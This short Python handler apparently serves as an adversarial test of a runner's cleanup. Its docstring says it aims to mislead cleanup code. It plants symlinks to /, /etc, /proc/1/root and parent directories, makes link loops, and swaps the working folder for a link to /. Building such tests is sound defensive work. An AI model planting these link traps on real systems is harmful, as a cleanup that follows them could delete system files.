"""Lead whoever cleans up elsewhere: links out of /tmp, loops, a folder that becomes a link."""

import os


def handle(inputs, context):
    for number, target in enumerate(["/", "/etc", "/usr", "/proc/1/root", "/runner", "..", "/tmp", "loop"]):
        os.symlink(target, f"/tmp/link-{number}")
        os.symlink(target, f"own-{number}")
    os.symlink("loop", "loop")
    folder = os.getcwd()
    if folder != "/tmp":
        os.rename(folder, "/tmp/moved")
        os.symlink("/", folder)
    return "done"
